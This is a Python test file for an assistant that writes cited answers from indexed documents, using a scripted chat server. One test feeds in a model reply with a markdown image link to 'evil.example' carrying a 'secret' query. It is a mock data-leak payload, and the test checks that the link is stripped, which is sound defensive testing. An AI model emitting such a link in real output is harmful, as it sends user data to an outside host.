"""Written answers over a real library and a real server of the chat protocol, whose model plays by script."""

import time
from collections.abc import Mapping
from typing import Any

import pytest

from assistant.prompts import REFUSAL
from assistant.settings import Settings
from assistant.wiring import Assistant
from assistant.written.writing import Written
from tests.assistant.written.askingmodels import ENGLISH, FALSE, QUESTION, SECRET, TRUE, ask, told, written_with
from tests.chatserver import ChatServer

pytestmark = pytest.mark.usefixtures("key")


def test_each_sentence_that_passes_cites_the_words_that_bear_it_out(writing: Assistant, server: ChatServer) -> None:
    server.say(f"{TRUE} The circles were launched in 2014 by the college of Zwolle [{{key:launched in 2014}}].")
    answer = ask(writing)
    assert answer.mode == "written"
    assert answer.model == "openai:scripted"
    assert [each.outcome for each in answer.statements] == ["supported", "supported"]
    first, second = (answer.citations[each.citations[0] - 1] for each in answer.statements)
    assert "over 230 companies" in first.quote
    assert "launched in 2014" in second.quote
    for citation in answer.citations:
        document = writing.document(citation.document_id)
        assert document.text[citation.locator.start : citation.locator.end] == citation.quote
    assert answer.message.key == "written_by"


def test_what_the_source_does_not_say_is_struck_out_and_counted(writing: Assistant, server: ChatServer) -> None:
    server.say(f"{TRUE} {FALSE}")
    answer = ask(writing)
    right, wrong = answer.statements
    assert (right.supported, wrong.supported) == (True, False)
    assert wrong.citations == ()
    assert wrong.differences[0].reason == "figure"
    assert "230" in wrong.differences[0].found[0]
    assert "~~In 2018" in answer.answer
    assert "written_unsupported" in told(answer)


def test_the_status_is_that_of_what_came_through_the_check(
    indexed: Settings, writing: Assistant, server: ChatServer
) -> None:
    def status(said: str, assistant: Assistant = writing) -> str | None:
        server.say(said)
        answer = ask(assistant)
        assert answer.shown_status == answer.written_status
        assert answer.model_dump(mode="json")["written_status"] == answer.written_status
        return answer.written_status

    assert status(TRUE) == "answered"
    assert status(f"{TRUE} {FALSE}") == "partial"
    with written_with(indexed, server, unsupported="left_out") as assistant:
        assert status(f"{TRUE} {FALSE}", assistant) == "partial", "though all that is seen of it is borne out"
    server.say(FALSE)
    answer = ask(writing)
    assert answer.written_status is None
    assert answer.shown_status == answer.status, "of the quotes that stand there instead"


def test_an_operator_may_have_it_left_out(indexed: Settings, server: ChatServer) -> None:
    server.say(f"{TRUE} {FALSE}")
    with written_with(indexed, server, unsupported="left_out") as assistant:
        answer = ask(assistant)
    assert len(answer.statements) == 1
    assert "430" not in answer.answer
    assert "written_unsupported" in told(answer)


def test_sentences_are_heard_as_they_pass(writing: Assistant, server: ChatServer) -> None:
    server.play({"events": [{"say": TRUE + " "}, {"wait": 0.5}, {"say": FALSE}]})
    heard: list[tuple[float, Written]] = []
    ask(writing, heard=lambda so_far: heard.append((time.monotonic(), so_far)))
    lengths = [len(so_far.statements) for _, so_far in heard]
    assert [length for length in dict.fromkeys(lengths) if length] == [1, 2]


@pytest.mark.parametrize(
    ("reply", "note"),
    [
        ({"status": 401}, "chat_bad_key"),
        ({"status": 404}, "chat_not_found"),
        ({"status": 429}, "chat_limited"),
        ({"status": 500}, "chat_failed"),
        ({"events": [{"wait": 5}]}, "chat_slow"),
        ({"events": [{"cut": True}]}, "chat_cut"),
        ({"events": [{"raw": "data: {\n\n"}]}, "chat_nonsense"),
        ({"events": [{"finish": "stop"}]}, "chat_empty"),
        ({"events": [{"tool": "search"}, {"finish": "tool_calls"}]}, "chat_tool_call"),
        ({"events": [{"finish": "content_filter"}]}, "chat_refused"),
        ({"events": [{"say": REFUSAL}]}, "written_no_answer"),
        ({"events": [{"say": FALSE}]}, "written_nothing"),
        ({"events": [{"say": "In 2018, over 230 companies took part."}]}, "written_nothing"),
        ({"events": [{"say": "In 2018, over 230 companies took part [S77]."}]}, "written_nothing"),
    ],
)
def test_whatever_goes_wrong_quotes_are_shown_and_one_line_says_why(
    writing: Assistant, server: ChatServer, reply: Mapping[str, Any], note: str
) -> None:
    server.play(reply)
    started = time.monotonic()
    answer = ask(writing)
    assert time.monotonic() - started < 4
    assert (answer.mode, answer.model) == ("quotes", None)
    assert any("over 230 companies" in citation.quote for citation in answer.citations)
    assert told(answer)[:2] == [note, "quotes_instead"]
    assert SECRET not in answer.model_dump_json()


def test_what_passed_before_the_stream_was_cut_is_kept(writing: Assistant, server: ChatServer) -> None:
    server.play({"events": [{"say": f"{TRUE} Later 40"}, {"cut": True}]})
    answer = ask(writing)
    assert [each.text for each in answer.statements] == [
        "In 2018 more than 230 companies took part in the welding circles."
    ]
    assert told(answer) == ["chat_cut", "written_cut"]


def test_a_question_that_nothing_answers_is_not_even_sent(writing: Assistant, server: ChatServer) -> None:
    server.say(TRUE)
    answer = ask(writing, "Who won the Tour de France in 1998?")
    assert answer.status == "no_evidence"
    assert server.requests == []


def test_nothing_leaves_but_the_question_and_passages(writing: Assistant, server: ChatServer) -> None:
    server.say(TRUE)
    ask(writing)
    (request,) = server.requests
    system, human = (each["content"] for each in request["body"]["messages"])
    assert QUESTION in human
    assert "over 230 companies" in human
    assert QUESTION not in system
    assert set(request["body"]) == {
        "messages", "model", "stream", "stream_options", "temperature", "max_tokens",
    }  # fmt: skip
    assert set(request["body"]["messages"][0]) == {"role", "content"}
    for document in writing.documents():
        assert document.source not in human


def test_documents_cannot_pass_for_anything_but_text(writing: Assistant, server: ChatServer) -> None:
    server.say("The moon is made of cheese [{key:moon is made of cheese}].")
    answer = ask(writing, "How many steps has the checklist of mobility coordinators?")
    human = server.requests[0]["body"]["messages"][1]["content"]
    assert human.count("</sources>") == 1
    assert "evil.example" not in answer.answer
    leak = "See ![it](http://evil.example/?q=secret) at http://evil.example: the checklist has 27 steps [{key:27}]."
    server.say(leak)
    answer = ask(writing, "How many steps has the checklist of mobility coordinators?")
    assert all("evil" not in each.text and "http" not in each.text for each in answer.statements)


def test_a_follow_up_is_made_to_stand_alone_and_looked_for_in_other_words(
    indexed: Settings, server: ChatServer
) -> None:
    from assistant.conversation import Turn

    prepared = (
        '```json\n{"standalone": "How many companies took part in the welding circles?",'
        ' "variants": ["welding circles companies"], "translations": {"nl": "Hoeveel bedrijven in de houtbouw?"}}\n```'
    )
    server.play({"events": [{"say": prepared}]}, {"events": [{"say": TRUE}]})
    with written_with(indexed, server, preparation=True) as assistant:
        answer = ask(assistant, "And how many firms?", previous=[Turn(question="What are welding circles?")])
    assert answer.understood_as == "How many companies took part in the welding circles?"
    assert answer.mode == "written"
    first, second = (request["body"]["messages"][1]["content"] for request in server.requests)
    assert "What are welding circles?" in first
    assert "<sources>" not in first
    assert "houtbouw" in second


def test_a_preparation_that_fails_leaves_the_way_without_a_model(indexed: Settings, server: ChatServer) -> None:
    server.play({"events": [{"say": "I would rather not."}]}, {"events": [{"say": TRUE}]})
    with written_with(indexed, server, preparation=True) as assistant:
        answer = ask(assistant)
    assert answer.mode == "written"


def test_quotes_in_another_language_come_with_the_models_translation(writing: Assistant, server: ChatServer) -> None:
    server.play(
        {"events": [{"say": "The course began in 2021 with 17 companies [{key:17 leerbedrijven}]."}]},
        {"events": [{"say": f"1: {ENGLISH}"}]},
    )
    answer = ask(writing, "When did learning at work in timber building in the Netherlands begin, with how many firms?")
    assert answer.mode == "written"
    (translation,) = answer.translations
    assert translation.text == ENGLISH
    assert answer.citations[translation.number - 1].language == "nl"
    server.play(
        {"events": [{"say": "The course began in 2021 with 17 companies [{key:17 leerbedrijven}]."}]},
        {"events": [{"say": f"1: {ENGLISH.replace('17', '70')}"}]},
    )
    assert ask(writing, answer.question).translations == ()


def test_what_is_supported_in_part_alone_is_not_enough(writing: Assistant, server: ChatServer) -> None:
    """The rule is that something must be wholly borne out for an answer to be shown as written."""
    partly = "The circles were launched in 2014 by the college of Zwolle, and the king of Spain opened them"
    server.say(f"{partly} [{{key:launched in 2014}}].")
    answer = ask(writing)
    assert (answer.mode, told(answer)) == ("quotes", ["written_nothing", "quotes_instead"])
